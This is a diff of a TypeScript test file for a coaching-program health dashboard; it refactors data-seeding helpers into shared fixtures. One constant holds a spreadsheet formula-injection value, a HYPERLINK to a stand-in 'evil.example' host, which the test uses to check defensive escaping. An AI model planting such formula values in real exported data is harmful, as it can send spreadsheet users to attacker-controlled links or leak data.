@@ -1,14 +1,25 @@
 import { randomUUID } from "node:crypto";
-import { DateTime } from "luxon";
+import type { DateTime } from "luxon";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { z } from "zod";
-import { createSeriesRequest, instancesRequest, readEventResult, readInstancesResult } from "../../../../api/graph";
-import { toPatternedRecurrence } from "../../../../api/scheduling";
-import { toDbBool, type Db } from "../../../../api/storage";
+import type { Db } from "../../../../api/storage";
 import { SANDBOX_TENANT_ID, type SeedPerson } from "../../../../sandbox/seed/people";
 import { forEachEngine } from "../../../fixtures/engines";
 import { api, person, startBookingStack, type BookingStack } from "../booking/booking-stack";
-import { holdInTeams, insertDecline } from "../team/activity-fixtures";
+import {
+  SECRET,
+  bookPastSeries as bookSeries,
+  cancelOccurrence,
+  holdInTeams,
+  insertBlock,
+  insertCircle as insertBareCircle,
+  insertDecline,
+  insertPrepOverride,
+  insertReview,
+  insertRun,
+  numbersIn,
+  thisMonday,
+} from "../team/activity-fixtures";
 
 // The program owner's health dashboard (issue #5 part 5). Tomás Reyes (L&D) owns the programs and
 // organises every circle; the circles and their past series are put in place directly (as the
@@ -25,8 +36,6 @@ const megan = person("megan.bowen");
 const olivia = person("olivia.brooks");
 const teamsPool = ["kavya.menon", "patti.fernandez", "christie.cline", "sofia.alvarez", "rahul.verma"].map(person);
 
-const ZONE = "Europe/London";
-const SECRET = "CONFIDENTIAL-CONTENT";
 /** A purpose a spreadsheet would run as a formula, with a comma and quotes. */
 const FORMULA_PURPOSE = '=HYPERLINK("https://evil.example/?x","Leadership, pilot")';
 
@@ -48,18 +57,6 @@ const ShownSchema = z.strictObject({
   insightsShared: z.number(),
 });
 const ListSchema = z.object({ programs: z.array(z.object({ id: z.string(), purpose: z.string(), enrolled: z.number(), draftCircles: z.number(), stage: z.string() })) });
-
-/** Every number anywhere in a value, with its path. */
-function numbersIn(value: unknown, path = "$"): string[] {
-  if (typeof value === "number") return [path];
-  if (Array.isArray(value)) return value.flatMap((v, i) => numbersIn(v, `${path}[${i}]`));
-  if (value && typeof value === "object") return Object.entries(value).flatMap(([k, v]) => numbersIn(v, `${path}.${k}`));
-  return [];
-}
-
-const thisMonday = () => DateTime.now().setZone(ZONE).startOf("week");
-/** Weekly sessions at 10:00 London from 10 weeks before this Monday: weeks 2–11 of a 12-week chart. */
-const firstSession = () => thisMonday().minus({ weeks: 10 }).set({ hour: 10 });
 
 forEachEngine((engine) => {
   let stack: BookingStack;
@@ -84,143 +81,17 @@ forEachEngine((engine) => {
     return id;
   }
 
+  /** A circle of the program, organised by the owner unless said otherwise. */
   async function insertCircle(db: Db, programId: string, position: number, name: string, members: SeedPerson[], joinedAt: string, organizer: SeedPerson = owner): Promise<string> {
-    const id = randomUUID();
-    const now = new Date().toISOString();
-    await db
-      .insertInto("circles")
-      .values({
-        id,
-        tenant_id: SANDBOX_TENANT_ID,
-        name,
-        purpose: `${SECRET} purpose`,
-        charter: JSON.stringify([`${SECRET} charter`]),
-        format_id: "coaching-circle",
-        cadence: "weekly",
-        session_minutes: 60,
-        session_count: 20,
-        time_zone: ZONE,
-        rotate_roles: toDbBool(true),
-        organizer_id: organizer.id,
-        created_at: now,
-        updated_at: now,
-      })
-      .execute();
-    for (const [i, m] of [organizer, ...members].entries()) {
-      await db
-        .insertInto("circle_members")
-        .values({ circle_id: id, user_id: m.id, upn: m.userPrincipalName, display_name: m.displayName, role: i === 0 ? "organizer" : "member", joined_at: joinedAt, left_at: null, time_zone: m.timeZone })
-        .execute();
-    }
-    await db.insertInto("program_circles").values({ program_id: programId, position, circle_id: id, job_id: null, created_at: now }).execute();
+    const id = await insertBareCircle(db, { name, organizer, members, joinedAt });
+    await db.insertInto("program_circles").values({ program_id: programId, position, circle_id: id, job_id: null, created_at: new Date().toISOString() }).execute();
     return id;
   }
 
-  /**
-   * A weekly series in the organiser's Outlook (app-only, as the booking job would as them),
-   * recorded as booked; with `organizer`, also its Teams meeting (the id booking records).
-   */
-  async function bookPastSeries(db: Db, circleId: string, attendees: SeedPerson[], organizer?: SeedPerson): Promise<{ eventId: string; meetingId: string | null; sessions: DateTime[] }> {
-    const organizerId = (organizer ?? owner).id;
-    const first = firstSession();
-    const create = createSeriesRequest("s", {
-      subject: "Coaching circle",
-      bodyHtml: "<p>Agenda</p>",
-      startDate: first.toFormat("yyyy-MM-dd"),
-      startTime: "10:00",
-      durationMinutes: 60,
-      timeZone: ZONE,
-      recurrence: toPatternedRecurrence({ start: { date: first.toFormat("yyyy-MM-dd"), time: "10:00", timeZone: ZONE }, cadence: "weekly", sessionCount: 20 }),
-      attendees: attendees.map((a) => ({ address: a.userPrincipalName, name: a.displayName })),
-      categories: ["Coaching"],
-      showAs: "busy",
-      transactionId: `program-health-${circleId}`,
-      extension: { name: "com.example.test", properties: { circleId } },
-    });
-    const [created] = await stack.graph.forApp(SANDBOX_TENANT_ID).batch([{ ...create, url: `/users/${organizerId}/events` }]);
-    const master = readEventResult(created!, "create series");
-    const meetingId = organizer ? stack.sandbox.sandbox.meetings.list().find((m) => m.eventId === master.id)!.id : null;
-    const now = new Date().toISOString();
-    await db
-      .insertInto("circle_series")
-      .values({
-        circle_id: circleId,
-        event_id: master.id,
-        ical_uid: master.iCalUId,
-        organizer_id: organizerId,
-        online_meeting_id: meetingId,
-        join_web_url: null,
-        chat_id: null,
-        time_zone: ZONE,
-        first_start: first.toISO()!,
-        transaction_id: `program-health-${circleId}`,
-        status: "booked",
-        job_id: null,
-        generation: 1,
-        created_at: now,
-        updated_at: now,
-      })
-      .execute();
-    return { eventId: master.id, meetingId, sessions: Array.from({ length: 20 }, (_, k) => first.plus({ weeks: k })) };
-  }
-
-  async function cancelOccurrence(eventId: string, start: DateTime) {
-    const app = stack.graph.forApp(SANDBOX_TENANT_ID);
-    const req = instancesRequest("i", eventId, start.toMillis() - 3_600_000, start.toMillis() + 3_600_000, ZONE);
-    const [page] = await app.batch([{ ...req, url: req.url.replace(/^\/me\//, `/users/${owner.id}/`) }]);
-    const [occurrence] = readInstancesResult(page!);
-    await app.post(`/users/${owner.id}/events/${occurrence!.id}/cancel`, { comment: "" });
-  }
-
-  /** A session run in the app, with content the owner must never see. */
-  async function insertRun(db: Db, circleId: string, start: DateTime): Promise<string> {
-    const id = randomUUID();
-    const now = new Date().toISOString();
-    await db
-      .insertInto("session_runs")
-      .values({
-        id,
-        circle_id: circleId,
-        tenant_id: SANDBOX_TENANT_ID,
-        occurrence_date: start.setZone(ZONE).toFormat("yyyy-MM-dd"),
-        chat_id: null,
-        meeting_id: null,
-        version: 3,
-        state: JSON.stringify({ status: "ended", questions: [{ text: `${SECRET} question` }] }),
-        roles: JSON.stringify({ facilitator: owner.id }),
-        status: "ended",
-        created_at: now,
-        updated_at: now,
-      })
-      .execute();
-    await db.insertInto("session_notes").values({ id: randomUUID(), session_id: id, author_id: owner.id, visibility: "circle", text: `${SECRET} note`, created_at: now }).execute();
-    return id;
-  }
-
-  async function insertReview(db: Db, circleId: string, sessionId: string, who: SeedPerson, status: string, at: DateTime) {
-    const now = new Date().toISOString();
-    await db
-      .insertInto("commitments")
-      .values({
-        id: randomUUID(),
-        circle_id: circleId,
-        session_id: sessionId,
-        owner_id: who.id,
-        action: `${SECRET} action of ${who.displayName}`,
-        due_date: at.toFormat("yyyy-MM-dd"),
-        signal: `${SECRET} signal`,
-        support_wanted: null,
-        chat_message_id: null,
-        todo_list_id: null,
-        todo_task_id: null,
-        review_status: status,
-        review_learning: `${SECRET} learning`,
-        reviewed_in_session_id: sessionId,
-        reviewed_at: at.toUTC().toISO()!,
-        created_at: now,
-        updated_at: now,
-      })
-      .execute();
+  /** The owner's series, or with `organizer` that person's, recorded with its Teams meeting id. */
+  async function bookPastSeries(circleId: string, attendees: SeedPerson[], organizer?: SeedPerson) {
+    const series = await bookSeries(stack, { circleId, organizer: organizer ?? owner, attendees, record: { meetingId: organizer !== undefined } });
+    return { ...series, meetingId: series.meeting?.id ?? null };
   }
 
   async function insertPulse(db: Db, sessionId: string, who: SeedPerson, rating: number, at: DateTime) {
@@ -235,16 +106,6 @@ forEachEngine((engine) => {
     await db.insertInto("session_insights").values({ id: randomUUID(), session_id: sessionId, author_id: who.id, text: `${SECRET} insight of ${who.displayName}`, shared_copy_id: copyId, created_at: now, updated_at: now }).execute();
   }
 
-  async function insertBlock(db: Db, circleId: string, who: SeedPerson, session: DateTime, kind: "prep" | "reflection") {
-    const start = kind === "prep" ? session.minus({ minutes: 15 }) : session.plus({ minutes: 60 });
-    const end = kind === "prep" ? session : session.plus({ minutes: 70 });
-    const key = session.toUTC().toISO()!;
-    await db
-      .insertInto("protected_time_blocks")
-      .values({ circle_id: circleId, user_id: who.id, tenant_id: SANDBOX_TENANT_ID, occurrence_key: key, kind, event_id: randomUUID(), series_ical_uid: null, start_at: start.toUTC().toISO()!, end_at: end.toUTC().toISO()!, updated_at: key })
-      .execute();
-  }
-
   beforeAll(async () => {
     stack = await startBookingStack(engine.db);
     const db = engine.db;
@@ -254,17 +115,17 @@ forEachEngine((engine) => {
     programs.shown = await createProgram(FORMULA_PURPOSE, [...alphaMembers, ...betaMembers]);
     // Alpha: every due session held.
     const alpha = await insertCircle(db, programs.shown, 0, circleNames[0]!, alphaMembers, joinedAt);
-    const alphaSeries = await bookPastSeries(db, alpha, alphaMembers);
+    const alphaSeries = await bookPastSeries(alpha, alphaMembers);
     const alphaRuns: string[] = [];
-    for (const start of alphaSeries.sessions.filter((s) => s.toMillis() < nowMs)) alphaRuns.push(await insertRun(db, alpha, start));
+    for (const start of alphaSeries.sessions.filter((s) => s.toMillis() < nowMs)) alphaRuns.push(await insertRun(db, alpha, start, owner));
     // Beta (with an outsider who is not enrolled): week 5 skipped in Outlook, the last two weeks not held.
     const beta = await insertCircle(db, programs.shown, 1, circleNames[1]!, [...betaMembers, outsider], joinedAt);
-    const betaSeries = await bookPastSeries(db, beta, [...betaMembers, outsider]);
-    await cancelOccurrence(betaSeries.eventId, betaSeries.sessions[5]!);
+    const betaSeries = await bookPastSeries(beta, [...betaMembers, outsider]);
+    await cancelOccurrence(stack, owner, betaSeries.eventId, betaSeries.sessions[5]!);
     const betaRuns: string[] = [];
     for (const [k, start] of betaSeries.sessions.entries()) {
       if (k === 5 || k >= 8 || start.toMillis() >= nowMs) continue;
-      betaRuns.push(await insertRun(db, beta, start));
+      betaRuns.push(await insertRun(db, beta, start, owner));
     }
 
     const [diego, lee, isaiah] = alphaMembers as [SeedPerson, SeedPerson, SeedPerson];
@@ -294,28 +155,13 @@ forEachEngine((engine) => {
     await insertInsight(db, betaRuns[1]!, mei, false);
     // Diego's blocks are recorded for the first two sessions; a meeting landed on the second prep.
     for (const k of [0, 1]) for (const kind of ["prep", "reflection"] as const) await insertBlock(db, alpha, diego, alphaSeries.sessions[k]!, kind);
-    const second = alphaSeries.sessions[1]!.toUTC().toISO()!;
-    await db
-      .insertInto("protected_time_overrides")
-      .values({
-        circle_id: alpha,
-        user_id: diego.id,
-        tenant_id: SANDBOX_TENANT_ID,
-        occurrence_key: second,
-        kind: "prep",
-        event_id: randomUUID(),
-        block_start_at: alphaSeries.sessions[1]!.minus({ minutes: 15 }).toUTC().toISO()!,
-        block_end_at: second,
-        overridden_at: second,
-        nudged_at: null,
-      })
-      .execute();
+    await insertPrepOverride(db, alpha, diego, alphaSeries.sessions[1]!);
 
     // Four people in one booked circle: below the threshold of 5.
     programs.small = await createProgram("Sales pilot", smallPool);
     const gamma = await insertCircle(db, programs.small, 0, circleNames[2]!, smallPool, joinedAt);
-    const gammaSeries = await bookPastSeries(db, gamma, smallPool);
-    for (const start of gammaSeries.sessions.filter((s) => s.toMillis() < nowMs)) await insertRun(db, gamma, start);
+    const gammaSeries = await bookPastSeries(gamma, smallPool);
+    for (const start of gammaSeries.sessions.filter((s) => s.toMillis() < nowMs)) await insertRun(db, gamma, start, owner);
 
     programs.unbooked = await createProgram("Not booked yet", [megan]);
 
@@ -323,12 +169,12 @@ forEachEngine((engine) => {
     // session excepted). Sofia declined sessions 3 and 8.
     programs.teams = await createProgram("Teams-only pilot", teamsPool, olivia);
     const delta = await insertCircle(db, programs.teams, 0, "Program circle Delta", teamsPool, joinedAt, olivia);
-    const deltaSeries = await bookPastSeries(db, delta, teamsPool, olivia);
+    const deltaSeries = await bookPastSeries(delta, teamsPool, olivia);
     const [kavya, patti, christie, sofia, rahul] = teamsPool as [SeedPerson, SeedPerson, SeedPerson, SeedPerson, SeedPerson];
     const everyone: Array<[SeedPerson]> = [[olivia], ...teamsPool.map((p): [SeedPerson] => [p])];
     for (const k of [0, 1, 2, 4, 5, 6, 7]) await holdInTeams(stack.sandbox.url, deltaSeries.meetingId!, deltaSeries.sessions[k]!, everyone);
     await holdInTeams(stack.sandbox.url, deltaSeries.meetingId!, deltaSeries.sessions[3]!, [[olivia], [kavya], [patti], [christie], [rahul]]);
-    await insertRun(db, delta, deltaSeries.sessions[8]!); // the one session run in the app: no Teams report
+    await insertRun(db, delta, deltaSeries.sessions[8]!, owner); // the one session run in the app: no Teams report
     await holdInTeams(stack.sandbox.url, deltaSeries.meetingId!, deltaSeries.sessions[9]!, [[olivia]]); // only the organiser came
     for (const k of [3, 8]) await insertDecline(db, delta, sofia, deltaSeries.sessions[k]!);
     ids.push(alpha, beta, gamma, alphaSeries.eventId, betaSeries.eventId, gammaSeries.eventId);
